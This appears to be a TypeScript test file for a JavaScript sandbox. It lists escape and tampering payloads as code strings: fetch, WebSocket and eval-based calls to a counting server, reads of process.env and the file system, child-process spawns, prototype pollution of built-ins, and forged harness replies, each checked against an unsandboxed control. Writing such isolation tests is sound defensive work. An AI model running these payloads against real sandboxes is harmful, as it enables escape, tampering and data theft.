/**
 * Attempts to get out of the isolation, or to fake what others see. Each body sets `won` to true, or reaches the counting server
 * (HTTP and WS stand for its address), when it succeeds. The same text runs in both hosts, and with the policy off in the
 * places named by `control`, where it must succeed: an attack that could not work anyway proves nothing.
 */
export interface Attack {
  readonly title: string
  readonly body: string
  /** Where the same text succeeds without isolation: a plain Node process, a plain worker of a plain page. */
  readonly control: readonly ('node' | 'browser')[]
  /** How success shows: by `won`, or at the server. */
  readonly shows: 'won' | 'server'
}

const won = (title: string, body: string, control: Attack['control'] = []): Attack => ({
  title,
  body,
  control,
  shows: 'won',
})
const server = (title: string, body: string, control: Attack['control'] = []): Attack => ({
  title,
  body,
  control,
  shows: 'server',
})
const both = ['node', 'browser'] as const

const network: readonly Attack[] = [
  server('fetch', 'fetch(HTTP)', both),
  server('fetch by way of globalThis', 'globalThis.fetch(HTTP)', both),
  server('fetch with a body, without cors', "fetch(HTTP, { method: 'POST', mode: 'no-cors', body: 'secret' })", both),
  server('XMLHttpRequest', "const x = new XMLHttpRequest(); x.open('GET', HTTP, false); x.send()", ['browser']),
  server('WebSocket', 'new WebSocket(WS)', ['browser']),
  server('EventSource', 'new EventSource(HTTP)', ['browser']),
  server('WebTransport', 'new WebTransport(HTTP)'),
  server('sendBeacon', "navigator.sendBeacon(HTTP, 'secret')"),
  server('importScripts', 'importScripts(HTTP)', ['browser']),
  server('import() of an address', 'import(HTTP).catch(() => {})', ['browser']),
  server(
    'import() of a data address',
    "import('data:text/javascript,fetch(' + encodeURIComponent(JSON.stringify(HTTP)) + ')')",
    both,
  ),
  server(
    'import() with a comment in between',
    "import/* */('data:text/javascript,fetch(' + encodeURIComponent(JSON.stringify(HTTP)) + ')')",
    both,
  ),
  server('import() of the http module', "import('node:http').then((http) => http.get(HTTP))", ['node']),
  server('a built-in module by way of process', "process.getBuiltinModule('node:http').get(HTTP)", ['node']),
  server(
    'a worker inside the worker',
    "new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(HTTP) + ')'])))",
    ['browser'],
  ),
  server('an image', 'new Image().src = HTTP'),
  server('a peer connection', "new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1' }] })"),
  server('code from text: Function', "[].constructor.constructor('a', 'fetch(a)')(HTTP)", both),
  server('code from text: indirect eval', "(0, eval)('fetch(' + JSON.stringify(HTTP) + ')')", both),
  server('code from text: AsyncFunction', "(async () => {}).constructor('a', 'fetch(a)')(HTTP)", both),
  server('code from text: GeneratorFunction', "(function* () {}).constructor('a', 'fetch(a)')(HTTP).next()", both),
  server(
    'code from text: AsyncGeneratorFunction',
    "(async function* () {}).constructor('a', 'fetch(a)')(HTTP).next()",
    both,
  ),
  server(
    'code from text: constructor of a class',
    "class A { static x() {} }; A.x.constructor('a', 'fetch(a)')(HTTP)",
    both,
  ),
  server('code from text: constructor of a built-in', "Math.max.constructor('a', 'fetch(a)')(HTTP)", both),
  server('code from text: constructor of a kernel function', "u.constructor.constructor('a', 'fetch(a)')(HTTP)", both),
  server('code from text: a text timer', "setTimeout('fetch(' + JSON.stringify(HTTP) + ')', 0)", ['browser']),
  server(
    'the global object as this of a loose function',
    "const f = Reflect.construct(Function, ['return this']); f().fetch(HTTP)",
    both,
  ),
]

const platform: readonly Attack[] = [
  won('the environment', 'won = Object.keys(process.env).length > 0', ['node']),
  won('reading a file', "won = process.getBuiltinModule('node:fs').readdirSync('/').length > 0", ['node']),
  won('require', "won = typeof require('node:fs') === 'object'"),
  won('a child process', "won = process.getBuiltinModule('node:child_process').spawnSync('true').status === 0", [
    'node',
  ]),
  won('a thread', "new (process.getBuiltinModule('node:worker_threads').Worker)('1', { eval: true }); won = true", [
    'node',
  ]),
  won('process.binding', "won = typeof process.binding('fs') === 'object'", ['node']),
  won('global by its Node name', 'won = typeof global.process === "object"', ['node']),
  won('IndexedDB', "indexedDB.open('x'); won = true", ['browser']),
  won('cache storage', "won = typeof caches.open === 'function'"),
  won('a broadcast channel', "won = new BroadcastChannel('x').name === 'x'", both),
  won('the private file system', 'won = typeof navigator.storage.getDirectory === "function"'),
  won('local storage', 'localStorage.setItem("a", "b"); won = true'),
  won('cookies', 'won = typeof document.cookie === "string"'),
  won('the parent', "parent.postMessage('x', '*'); won = true"),
  won('the page above', 'won = typeof top.document === "object"'),
  won('moving to another address', 'location.href = HTTP; won = true'),
  won('posting a message', "postMessage('result {}'); won = true", ['browser']),
  won('posting through self', "self.postMessage('result {}'); won = true", ['browser']),
  won('closing the worker', 'close(); won = true', ['browser']),
  won('listening to messages', 'addEventListener("message", () => {}); won = true', ['browser']),
  won(
    'the prototype of the global object',
    'won = typeof Object.getPrototypeOf(globalThis).addEventListener === "function" || Object.getPrototypeOf(Object.getPrototypeOf(globalThis)) !== null',
    ['browser'],
  ),
  won('the clock: Date', 'won = new Date().getTime() > 0', both),
  won('the clock: performance', 'won = performance.now() > 0', both),
  won('the clock: shared memory', 'won = new SharedArrayBuffer(8).byteLength === 8', ['node']),
  won('waiting', 'Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 1); won = true', ['node']),
  won('chance: Math.random', 'won = Math.random() >= 0', both),
  won('chance: crypto', 'won = crypto.getRandomValues(new Uint8Array(4)).length === 4', both),
  won('the locale: Intl', "won = typeof new Intl.NumberFormat().format(1) === 'string'", both),
  won('the locale: toLocaleString', "won = (1234567.8).toLocaleString('en') === '1,234,567.8'", both),
  won('a timer', 'setTimeout(() => {}, 0); won = true', both),
  won('a microtask', 'queueMicrotask(() => {}); won = true', both),
  won('WebAssembly', 'won = WebAssembly.validate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))', both),
  won('weak references', 'won = typeof new WeakRef({}).deref() === "object"', both),
  won('a proxy', 'won = new Proxy({}, { get: () => 1 }).x === 1', both),
  won('structuredClone', 'won = structuredClone({ a: 1 }).a === 1', both),
]

const tampering: readonly Attack[] = [
  won('Array.prototype.map', 'Array.prototype.map = () => ["forged"]; won = [1].map((x) => x)[0] === "forged"', both),
  won('Array.prototype.push', 'Array.prototype.push = () => 0; won = [].push(1) === 0', both),
  won(
    'the iterator of lists',
    'Array.prototype[Symbol.iterator] = function* () { yield "forged" }; won = [...[1]][0] === "forged"',
    both,
  ),
  won(
    'the iterator of maps',
    'const p = Object.getPrototypeOf(new Map()[Symbol.iterator]()); p.next = () => ({ done: true }); won = [...new Map([[1, 1]])].length === 0',
    both,
  ),
  won('JSON.stringify', "JSON.stringify = () => 'forged'; won = JSON.stringify(1) === 'forged'", both),
  won('JSON.parse', 'JSON.parse = () => 7; won = JSON.parse("1") === 7', both),
  won('Object.prototype.toJSON', "Object.prototype.toJSON = () => 'forged'; won = JSON.stringify({}) !== '{}'", both),
  won(
    'a setter on Object.prototype',
    "Object.defineProperty(Object.prototype, 'outcome', { set() {}, configurable: true }); won = true",
    both,
  ),
  won(
    'a getter on Object.prototype',
    "Object.prototype.__defineGetter__('error', () => 1); won = ({}).error === 1",
    both,
  ),
  won('Object.freeze', 'Object.freeze = (x) => x; won = !Object.isFrozen(Object.freeze({ a: 1 }))', both),
  won('Object.keys', 'Object.keys = () => ["forged"]; won = Object.keys({})[0] === "forged"', both),
  won('Reflect.apply', 'Reflect.apply = () => 7; won = Reflect.apply(Math.max, null, [1]) === 7', both),
  won('Map.prototype.get', 'Map.prototype.get = () => 7; won = new Map().get(1) === 7', both),
  won(
    'Promise.prototype.then',
    'Object.getPrototypeOf((async () => {})()).then = () => 7; won = (async () => {})().then() === 7',
    both,
  ),
  won('Function.prototype.call', 'Function.prototype.call = () => 7; won = Math.max.call(null, 1) === 7', both),
  won('String.prototype.startsWith', 'String.prototype.startsWith = () => true; won = "a".startsWith("b")', both),
  won('RegExp.prototype.exec', 'RegExp.prototype.exec = () => null; won = !/a/.test("a")', both),
  won('Number.isFinite', 'Number.isFinite = () => true; won = Number.isFinite(NaN)', both),
  won(
    'Symbol.hasInstance of Error',
    'Object.defineProperty(Error, Symbol.hasInstance, { value: () => true }); won = 1 instanceof Error',
    both,
  ),
  won(
    'typed arrays',
    'Object.getPrototypeOf(Float64Array).prototype.slice = () => 7; won = new Float64Array(1).slice() === 7',
    both,
  ),
  won(
    'Error.prepareStackTrace',
    'Error.prepareStackTrace = (e, frames) => frames; won = Array.isArray(new Error("x").stack)',
    both,
  ),
  won('Error.stackTraceLimit', 'Error.stackTraceLimit = 0; won = Error.stackTraceLimit === 0', both),
  won('__proto__ of a built-in', 'Array.prototype.__proto__ = { forged: 1 }; won = [].forged === 1', both),
  won('a name on the global', 'globalThis.left = 1; won = left === 1', both),
  won('a name on the global by Reflect', 'won = Reflect.defineProperty(globalThis, "left", { value: 1 })', both),
  won('a name of the kernel on the global', 'globalThis.u = { kg: 1000 }; won = u.kg === 1000', both),
  won('a unit of the kernel', 'u.kg = 1000; won = u.kg === 1000', both),
  won('a function of the kernel', 'rotor.hover = () => 7; won = rotor.hover() === 7', both),
  won('a property of a kernel function', 'assumption.call = () => 7; won = assumption.call() === 7', both),
  won('console.log', 'console.log = () => 7; won = console.log() === 7', both),
  won('the caller of a cell', 'const f = function () { return f.caller }; won = typeof f() === "function"'),
  won('an upstream list', 'upstream.list.push(4); won = upstream.list.length === 4', both),
  won('an upstream record', 'upstream.nested.value = 7; won = upstream.nested.value === 7', both),
  won(
    "an upstream record's prototype",
    'Object.setPrototypeOf(upstream, { forged: 1 }); won = upstream.forged === 1',
    both,
  ),
  won('an upstream function', 'upstream.twice.call = () => 7; won = upstream.twice.call() === 7', both),
  won(
    'the record of what is read',
    "Object.defineProperty(reads, 'upstream', { get: () => 7 }); won = reads.upstream === 7",
    both,
  ),
]

/** Values and errors as bait for the harness, and forged replies. */
const traps: readonly Attack[] = [
  won(
    'errors made where the stack ends',
    "const found = []; const f = () => { try { f() } catch (e) { found.push(e); try { e.stack } catch (g) { found.push(g) } } }; f(); won = found.some((e) => { try { return e.constructor.constructor('return 1')() === 1 } catch { return false } })",
    both,
  ),
  won(
    'prototypes of errors made where the stack ends',
    'const found = []; const f = () => { try { f() } catch (e) { found.push(e); try { e.stack } catch (g) { found.push(g) } } }; f(); won = found.some((e) => { try { let p = e; while (Object.getPrototypeOf(p)) p = Object.getPrototypeOf(p); p.forged = 1; return ({}).forged === 1 || p.forged === 1 } catch { return false } })',
    both,
  ),
  won('a log line that looks like a reply', "console.log('result {}\nend'); console.log('\nheld victim attack\nend')"),
  won(
    'an error whose stack names other cells',
    "const e = new Error('x'); e.stack = 'Error: x\n at cell:victim:1:1\n at cell:above:1:1'; throw e",
  ),
  won(
    'an error whose code and details are traps',
    "throw Object.assign(new Error('end\nresult {}'), { code: { toString() { return 'X' } }, get details() { throw 1 } })",
  ),
  won('a record with its own toJSON', 'reads.forged = { toJSON: () => 7 }'),
  won(
    'text that becomes a number only when asked',
    "const x = { [Symbol.toPrimitive]: () => 7 }; requirement('r', { actual: x, atLeast: 1 }); won = true",
  ),
  won('an assumption with a trap for a name', "assumption({ toString: () => 'end' }, 1); won = true"),
  won('a thenable', 'const t = { then(f) { f(7) } }; (async () => { await t })()'),
  won(
    'a record that freezes badly',
    'const a = []; Object.defineProperty(a, 0, { get() { throw 1 }, enumerable: true }); throw a',
  ),
]

export const attacks: readonly Attack[] = [...network, ...platform, ...tampering, ...traps]

/** Text in which the addresses stand. */
export function aimed(attack: Attack, address: { readonly http: string; readonly webSocket: string }): string {
  const mark = encodeURIComponent(attack.title)
  const aim = `const HTTP = ${JSON.stringify(`${address.http}/${mark}`)}, WS = ${JSON.stringify(`${address.webSocket}/${mark}`)};`
  return `${aim} let won = false;\n${attack.body};`
}

/** What every attack finds upstream of it; in a control run it is an ordinary record. */
export const upstreamBody = 'const upstream = { list: [1, 2, 3], nested: { value: 1 }, twice: (x) => 2 * x };'
